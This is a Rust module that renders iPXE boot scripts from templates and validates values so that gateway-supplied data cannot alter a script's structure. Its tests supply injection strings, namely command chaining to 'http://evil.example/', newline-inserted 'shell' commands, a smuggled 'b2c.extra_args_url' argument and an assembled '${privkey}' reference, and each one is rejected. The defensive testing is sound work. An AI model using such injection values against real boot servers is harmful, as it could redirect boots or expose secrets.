//! Boot script rendering.
//!
//! Templates use iPXE's own `${name}` syntax. Names we know are substituted; every other
//! `${...}` (iPXE settings such as `${netX/mac}`) is left for iPXE to expand.
//!
//! Two layers of checks. Each value is checked alone when it is set (no line break, no setting
//! reference, no `&&`/`||`/`#` word, and for values from gateway records no `"`). Then the
//! rendered script itself is checked line by line ([`check_script`]), knowing which bytes came
//! from the template, from our own variables and from gateway records, so that no combination
//! of values can produce what no single value may: no control character, balanced quotes, no
//! `&&`/`||` chaining or `#` comment that the template did not write, and no word boundary
//! (a new kernel argument) that comes from a gateway's value.

use std::collections::BTreeMap;

/// Used when a release brings no template. `${secrets_arg}` expands to
/// ` b2c.extra_args_url="<url>"` when the gateway has secrets and to nothing otherwise.
pub const DEFAULT_TEMPLATE: &str =
    "#!ipxe\nkernel ${kernel_url} ${cmdline}${secrets_arg}\ninitrd ${initrd_url}\nboot\n";

/// The default script for gateways whose iPXE can check what it downloaded (2.0 and newer):
/// each image is named and its SHA-256 compared with the release's before `boot`. A mismatch ends
/// the script with an error, so the gateway's own retry loop asks again; nothing is booted.
pub const VERIFYING_TEMPLATE: &str = "#!ipxe\n\
kernel --name kernel ${kernel_url} ${cmdline}${secrets_arg}\n\
initrd --name initrd ${initrd_url}\n\
sha256sum --set edge_kernel_sha256 kernel\n\
iseq ${edge_kernel_sha256} ${kernel_sha256} || goto edge_mismatch\n\
sha256sum --set edge_initrd_sha256 initrd\n\
iseq ${edge_initrd_sha256} ${initrd_sha256} || goto edge_mismatch\n\
boot\n\
:edge_mismatch\n\
echo ipxe-edge: a downloaded image does not match its release\n\
exit 1\n";

/// Longest template accepted (iPXE scripts are small; anything larger is a mistake).
pub const MAX_TEMPLATE_BYTES: usize = 64 * 1024;

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum RenderError {
    #[error("template must start with #!ipxe")]
    NotAnIpxeScript,
    #[error("template is larger than {MAX_TEMPLATE_BYTES} bytes")]
    TooLarge,
    #[error("value of ${{{name}}} is unsafe in a boot script: {reason}")]
    UnsafeValue { name: String, reason: &'static str },
    #[error("template variable name {0:?} is not allowed")]
    BadVariableName(String),
    #[error("rendered script line {line} is unsafe: {reason}")]
    UnsafeScript { line: usize, reason: &'static str },
}

/// Where a byte of a rendered script came from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// The template (and the release's command line spliced into it): operator-written.
    Template,
    /// A value ipxe-edge computed itself (URLs, names, the secrets argument).
    Own,
    /// A value from a gateway record's `vars`: untrusted.
    Gateway,
}

/// Values substituted into a template, by variable name, with where each came from.
#[derive(Debug, Default, Clone)]
pub struct Vars(BTreeMap<String, (String, Origin)>);

impl Vars {
    pub fn new() -> Self {
        Vars::default()
    }

    /// Adds a variable from a gateway record after checking that its value is safe inside an
    /// iPXE command line; a `"` is refused, since it could re-quote the arguments around it.
    pub fn set(&mut self, name: &str, value: impl Into<String>) -> Result<(), RenderError> {
        let value = value.into();
        if value.contains('"') {
            return Err(RenderError::UnsafeValue { name: name.to_string(), reason: "contains a double quote" });
        }
        self.insert(name, value, Origin::Gateway)
    }

    /// Adds a variable ipxe-edge computed itself; it may quote (`b2c.extra_args_url="…"`).
    pub fn set_own(&mut self, name: &str, value: impl Into<String>) -> Result<(), RenderError> {
        self.insert(name, value.into(), Origin::Own)
    }

    fn insert(&mut self, name: &str, value: String, origin: Origin) -> Result<(), RenderError> {
        if !valid_var_name(name) {
            return Err(RenderError::BadVariableName(name.to_string()));
        }
        check_value(name, &value)?;
        self.0.insert(name.to_string(), (value, origin));
        Ok(())
    }

    pub fn get(&self, name: &str) -> Option<&str> {
        self.0.get(name).map(|(v, _)| v.as_str())
    }

    fn get_with_origin(&self, name: &str) -> Option<(&str, Origin)> {
        self.0.get(name).map(|(v, o)| (v.as_str(), *o))
    }
}

/// Variable names: what iPXE would never use for its own settings (no `/`, `:` or `.`).
pub fn valid_var_name(name: &str) -> bool {
    !name.is_empty() && name.len() <= 64 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// Checks a piece of template text that is spliced into a template before rendering (a
/// release's kernel command line): one line, no command separators, `${...}` allowed.
pub fn check_fragment(name: &str, value: &str) -> Result<(), RenderError> {
    check_line(name, value, true)
}

fn check_value(name: &str, value: &str) -> Result<(), RenderError> {
    check_line(name, value, false)
}

fn check_line(name: &str, value: &str, allow_references: bool) -> Result<(), RenderError> {
    let unsafe_value = |reason| Err(RenderError::UnsafeValue { name: name.to_string(), reason });
    if value.len() > 16 * 1024 {
        return unsafe_value("too long");
    }
    if value.chars().any(|c| c.is_control()) {
        return unsafe_value("contains a control character (newline, tab, …)");
    }
    // "$" anywhere, or "{" right after a template's "$", could form a setting reference.
    if !allow_references && (value.contains('$') || value.starts_with('{')) {
        return unsafe_value("contains a ${...} setting reference");
    }
    for word in value.split(' ') {
        if word == "&&" || word == "||" {
            return unsafe_value("contains a command separator");
        }
        if word.starts_with('#') {
            return unsafe_value("contains a comment marker");
        }
    }
    Ok(())
}

/// Checks a template before it is stored or used.
pub fn check_template(template: &str) -> Result<(), RenderError> {
    if template.len() > MAX_TEMPLATE_BYTES {
        return Err(RenderError::TooLarge);
    }
    if !template.starts_with("#!ipxe") {
        return Err(RenderError::NotAnIpxeScript);
    }
    Ok(())
}

/// Substitutes the known variables of `template` (unknown `${...}` pass through untouched),
/// then checks the whole script with [`check_script`].
pub fn render(template: &str, vars: &Vars) -> Result<String, RenderError> {
    let rendered = render_with_origins(template, vars)?;
    check_script(&rendered)?;
    Ok(rendered.text)
}

/// A rendered script with the origin of each byte and the places where a gateway's value was
/// put in (an empty value leaves no byte but still joins the template text around it).
#[derive(Debug, Clone)]
pub struct Rendered {
    pub text: String,
    pub origins: Vec<Origin>,
    pub substitutions: Vec<usize>,
}

/// The rendered script, with where each of its bytes came from.
pub fn render_with_origins(template: &str, vars: &Vars) -> Result<Rendered, RenderError> {
    check_template(template)?;
    let mut out = String::with_capacity(template.len() + 1024);
    let mut origins = Vec::with_capacity(template.len() + 1024);
    let mut substitutions = Vec::new();
    let mut push = |out: &mut String, text: &str, origin: Origin| {
        out.push_str(text);
        origins.extend(std::iter::repeat_n(origin, text.len()));
    };
    let mut rest = template;
    while let Some(start) = rest.find("${") {
        push(&mut out, &rest[..start], Origin::Template);
        let after = &rest[start + 2..];
        match after.find('}') {
            Some(end) => {
                let name = &after[..end];
                match vars.get_with_origin(name) {
                    Some((value, origin)) => {
                        if origin == Origin::Gateway {
                            substitutions.push(out.len());
                        }
                        push(&mut out, value, origin)
                    }
                    None => push(&mut out, &rest[start..start + 2 + end + 1], Origin::Template),
                }
                rest = &after[end + 1..];
            }
            None => {
                push(&mut out, &rest[start..], Origin::Template);
                rest = "";
            }
        }
    }
    push(&mut out, rest, Origin::Template);
    if !out.ends_with('\n') {
        push(&mut out, "\n", Origin::Template);
    }
    Ok(Rendered { text: out, origins, substitutions })
}

/// The invariant every script we answer satisfies, whatever the values: checked on the script
/// itself, line by line, with the origin of each byte.
pub fn check_script(rendered: &Rendered) -> Result<(), RenderError> {
    let (script, origins) = (rendered.text.as_str(), rendered.origins.as_slice());
    debug_assert_eq!(script.len(), origins.len());
    let mut offset = 0;
    for (index, line) in script.split_inclusive('\n').enumerate() {
        let bad = |reason| Err(RenderError::UnsafeScript { line: index + 1, reason });
        let body = line.strip_suffix('\n').unwrap_or(line);
        let origin = &origins[offset..offset + body.len()];
        offset += line.len();
        if body.chars().any(|c| c.is_control()) {
            return bad("control character");
        }
        if body.bytes().filter(|b| *b == b'"').count() % 2 != 0 {
            return bad("unbalanced double quotes");
        }
        let line_start = offset - line.len();
        let mut start = 0;
        for word in body.split(' ') {
            let word_origin = &origin[start..start + word.len()];
            // A value shaped this word if it put bytes in it, or was put in anywhere from its
            // start to its end (an empty value can cut template text into `&&` or `#…`).
            let (from, to) = (line_start + start, line_start + start + word.len());
            let from_values = word_origin.iter().any(|o| *o != Origin::Template)
                || rendered.substitutions.iter().any(|&at| at >= from && at <= to);
            if from_values && (word == "&&" || word == "||") {
                return bad("a value forms a command separator");
            }
            if from_values && word.starts_with('#') && !(index == 0 && word == "#!ipxe") {
                return bad("a value forms a comment");
            }
            // A `${` is a value's doing if either byte came from a value or a gateway value was
            // put in between them.
            let forms_reference = word.match_indices("${").any(|(i, _)| {
                let at = from + i;
                origin[start + i] != Origin::Template
                    || origin[start + i + 1] != Origin::Template
                    || rendered.substitutions.contains(&(at + 1))
            });
            if forms_reference {
                return bad("a value forms a setting reference");
            }
            start += word.len();
            // The space after this word: a word boundary that only the template or our own
            // values may create.
            if start < body.len() {
                if origin[start] == Origin::Gateway {
                    return bad("a gateway value adds a word (a new argument)");
                }
                start += 1;
            }
        }
        if origin.iter().zip(body.bytes()).any(|(o, b)| *o == Origin::Gateway && b == b'"') {
            return bad("a gateway value holds a double quote");
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vars(pairs: &[(&str, &str)]) -> Vars {
        let mut v = Vars::new();
        for (k, val) in pairs {
            v.set_own(k, *val).unwrap();
        }
        v
    }

    #[test]
    fn values_cannot_combine_into_what_none_may_be() {
        // `${a}${b}` with "&" and "&": each value alone is harmless, together they chain.
        let template = "#!ipxe\nkernel k console=ttyS0 ${a}${b} chain http://evil.example/\nboot\n";
        for (a, b) in [("&", "&"), ("|", "|")] {
            let mut v = Vars::new();
            v.set("a", a).unwrap();
            v.set("b", b).unwrap();
            assert!(matches!(render(template, &v), Err(RenderError::UnsafeScript { line: 2, .. })), "{a:?} {b:?}");
        }
        // "$" + "{privkey}" cannot be set at all.
        let mut v = Vars::new();
        assert!(v.set("a", "$").is_err());
        // A gateway value with a space would add a kernel argument.
        let mut v = Vars::new();
        v.set("a", "x b2c.extra_args_url=http://evil/").unwrap();
        assert!(matches!(render("#!ipxe\nkernel k ${a}\n", &v), Err(RenderError::UnsafeScript { .. })));
    }

    /// Found by the `render` fuzz target: an empty value turned template text into a comment.
    #[test]
    fn empty_values_cannot_join_template_text_into_a_comment_or_chain() {
        let mut v = Vars::new();
        v.set("a", "").unwrap();
        assert!(matches!(
            render("#!ipxe\nkernel k ${a}#x console=ttyS0\n", &v),
            Err(RenderError::UnsafeScript { line: 2, .. })
        ));
        assert!(matches!(
            render("#!ipxe\nkernel k &${a}& chain http://evil/\n", &v),
            Err(RenderError::UnsafeScript { line: 2, .. })
        ));
        assert!(matches!(
            render("#!ipxe\nkernel k &&${a} chain http://evil/\n", &v),
            Err(RenderError::UnsafeScript { line: 2, .. })
        ));
        assert!(render("#!ipxe\nkernel k x${a} #comment-by-template\n", &v).is_ok());
        // Template-written iPXE references next to a value stay allowed; a value cannot split one.
        assert!(render("#!ipxe\nkernel k mac=${netX/mac}${a}\n", &v).is_ok());
        assert!(matches!(render("#!ipxe\nkernel k $${a}{netX/mac}\n", &v), Err(RenderError::UnsafeScript { .. })));
    }

    #[test]
    fn quotes_from_gateway_values_are_refused_and_lines_stay_balanced() {
        let mut v = Vars::new();
        assert!(v.set("a", "x\" b2c.extra_args_url=\"http://evil/").is_err());
        // Our own values may quote, balanced.
        v.set_own("secrets_arg", " b2c.extra_args_url=\"https://s/secrets/T\"").unwrap();
        assert!(render("#!ipxe\nkernel k${secrets_arg}\n", &v).is_ok());
        // A template with unbalanced quotes is refused as rendered.
        assert!(matches!(
            render("#!ipxe\nkernel k a=\"b\n", &Vars::new()),
            Err(RenderError::UnsafeScript { line: 2, .. })
        ));
    }

    mod properties {
        use super::super::*;
        use proptest::prelude::*;

        /// Line shapes a template may have, with two gateway variables in them.
        const LINES: &[&str] = &[
            "kernel k console=ttyS0 ${a}${b} chain http://evil.example/",
            "kernel k a=\"${a}\" ${b} b2c.extra_args_url=\"https://s/secrets/T\"",
            "chain https://h/boot.ipxe?x=${a}&y=${b} || goto retry",
            "echo ${a} ${b}",
            "set v ${a}",
            "initrd ${b}",
        ];

        fn words(line: &str) -> Vec<&str> {
            line.split(' ').collect()
        }

        fn special(word: &str) -> bool {
            word == "&&" || word == "||" || word.starts_with('#')
        }

        proptest! {
            #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
            /// Whatever the values, an answered script has the template's shape: the same
            /// number of words on each line, the same chaining and comment words, balanced
            /// quotes, no control character.
            #[test]
            fn no_values_change_the_shape_of_the_script(
                a in "[ -~\t\n]{0,10}",
                b in "[ -~]{0,10}",
                picks in proptest::collection::vec(0..LINES.len(), 1..5),
            ) {
                let lines: Vec<&str> = picks.iter().map(|i| LINES[*i]).collect();
                let template = format!("#!ipxe\n{}\n", lines.join("\n"));
                let mut vars = Vars::new();
                let set = vars.set("a", a.as_str()).and_then(|_| vars.set("b", b.as_str()));
                if set.is_err() {
                    return Ok(());
                }
                if let Ok(out) = render(&template, &vars) {
                    let out_lines: Vec<&str> = out.lines().skip(1).collect();
                    prop_assert_eq!(out_lines.len(), lines.len());
                    for (rendered, shape) in out_lines.iter().zip(&lines) {
                        let shape = shape.replace("${a}", "X").replace("${b}", "X");
                        prop_assert!(!rendered.chars().any(|c| c.is_control()));
                        prop_assert_eq!(rendered.matches('"').count() % 2, 0);
                        prop_assert_eq!(words(rendered).len(), words(&shape).len(), "{} from {}", rendered, shape);
                        let ours: Vec<bool> = words(rendered).into_iter().map(special).collect();
                        let theirs: Vec<bool> = words(&shape).into_iter().map(special).collect();
                        prop_assert_eq!(ours, theirs);
                    }
                }
            }
        }
    }

    #[test]
    fn template_written_chaining_is_the_operators_choice() {
        let mut v = Vars::new();
        v.set("site", "lab-1").unwrap();
        let out = render("#!ipxe\n:retry\nchain https://x/${site} || goto retry\n", &v).unwrap();
        assert!(out.contains("lab-1 || goto retry"));
    }

    #[test]
    fn default_template_renders_with_secrets() {
        let v = vars(&[
            ("kernel_url", "https://s3/k?X-Amz-Signature=1"),
            ("initrd_url", "https://s3/i"),
            ("cmdline", "console=ttyS0 b2c.container=\"docker://x\""),
            ("secrets_arg", " b2c.extra_args_url=\"https://sec/secrets/TOKEN\""),
        ]);
        let out = render(DEFAULT_TEMPLATE, &v).unwrap();
        assert_eq!(
            out,
            "#!ipxe\nkernel https://s3/k?X-Amz-Signature=1 console=ttyS0 b2c.container=\"docker://x\" b2c.extra_args_url=\"https://sec/secrets/TOKEN\"\ninitrd https://s3/i\nboot\n"
        );
    }

    #[test]
    fn ipxe_variables_pass_through() {
        let mut v = Vars::new();
        v.set("gateway", "gw1").unwrap();
        let out = render("#!ipxe\necho ${gateway} ${netX/mac} ${platform} ${unknown_thing} ${\n", &v).unwrap();
        assert_eq!(out, "#!ipxe\necho gw1 ${netX/mac} ${platform} ${unknown_thing} ${\n");
    }

    #[test]
    fn values_cannot_inject_lines_or_commands() {
        let mut v = Vars::new();
        for bad in [
            "x\nshell",
            "x\r\nshell",
            "x\tshell",
            "a || shell",
            "a && chain http://evil/",
            "a #comment",
            "${netX/mac}",
            "x\u{0}y",
            "x\u{85}y",
        ] {
            assert!(matches!(v.set("cmdline", bad), Err(RenderError::UnsafeValue { .. })), "{bad:?} accepted");
        }
        assert!(v.get("cmdline").is_none());
    }

    #[test]
    fn values_cannot_assemble_a_setting_reference() {
        // "$" + "{privkey}" from two values, or a template "$" followed by "{...}".
        let mut v = Vars::new();
        assert!(v.set("a", "$").is_err());
        assert!(v.set("b", "{privkey}").is_err());
        assert!(v.set("c", "a{b}").is_ok());
    }

    #[test]
    fn fragments_may_reference_variables_but_not_break_lines() {
        assert!(check_fragment("cmdline", "console=ttyS0 b2c.extra_args_url=\"${secrets_url}\" h=${netX/mac}").is_ok());
        assert!(check_fragment("cmdline", "a\nboot").is_err());
        assert!(check_fragment("cmdline", "a || b").is_err());
    }

    #[test]
    fn variable_names_are_restricted() {
        let mut v = Vars::new();
        assert!(v.set("net0/mac", "x").is_err());
        assert!(v.set("", "x").is_err());
        assert!(v.set("a b", "x").is_err());
    }

    #[test]
    fn templates_must_be_ipxe_scripts() {
        assert_eq!(render("kernel x", &Vars::new()), Err(RenderError::NotAnIpxeScript));
        let big = format!("#!ipxe\n{}", "x".repeat(MAX_TEMPLATE_BYTES));
        assert_eq!(render(&big, &Vars::new()), Err(RenderError::TooLarge));
    }
}
